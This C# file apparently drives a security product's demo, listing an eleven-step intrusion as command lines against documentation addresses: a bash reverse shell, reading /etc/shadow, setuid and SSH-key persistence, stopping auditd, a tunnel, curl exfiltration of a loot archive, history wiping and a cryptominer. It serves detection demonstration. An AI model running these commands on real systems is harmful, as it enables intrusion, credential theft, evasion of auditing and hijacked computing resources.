namespace Picket.Node.Demo;

/// <summary>
/// The attack story that the demo plays: an intrusion from the first shell to the miner. Addresses are those of RFC 5737.
/// </summary>
internal static class DemoStory
{
    /// <summary>The steps, in order.</summary>
    public static IReadOnlyList<DemoStep> Steps { get; } =
    [
        new("a shell calls home", "bash", ["-c", "bash -i >& /dev/tcp/203.0.113.10/4444 0>&1"], "f14eb449-a05b-47b7-8557-70973f8b0c7d"),
        new("gets itself a terminal", "python3", ["-c", "import pty; pty.spawn(\"/bin/bash\")"], "663aeacb-e25a-4f7d-852b-59caf5c88f4f"),
        new("looks for setuid programs", "find", ["/", "-perm", "-4000", "-type", "f"], "22e36960-badd-4946-93f2-4d7f57cd7ff2"),
        new("reads the password hashes", "cat", ["/etc/shadow"], "66726dca-a802-4af7-8ca5-6247937b3fdf"),
        new("makes a way back to root", "chmod", ["4755", "/usr/local/bin/helper"], "b48dcf30-0c7d-446c-807a-c0a05fc3cfb2"),
        new("and a key to log in with", "tee", ["-a", "/root/.ssh/authorized_keys"], "3c86f347-3521-454f-85a9-39df4adc344f"),
        new("stops the audit", "systemctl", ["stop", "auditd"], "c9152f19-8c83-41e2-8d4f-01587a0084f1"),
        new("digs a tunnel", "dbus-helper", ["client", "203.0.113.10:8080", "R:socks"], "5f080bb3-1986-4669-b542-e238351663f3"),
        new("carries data out", "curl", ["-sk", "--data-binary", "@/dev/shm/.c/loot.tgz", "https://203.0.113.10/u"],
            "ffd5bc2c-cadf-4929-8c0f-c47dff483008"),
        new("clears the history", "rm", ["-f", "/root/.bash_history"], "a8694b2e-67b1-482a-ba62-a21115f5f1cc"),
        new("and leaves a miner", "dbus-helper", ["-o", "stratum+tcp://203.0.113.10:3333", "-u", "w", "-k"],
            "b49c61c8-3433-4093-9aac-40a23ed45c7b"),
    ];
}
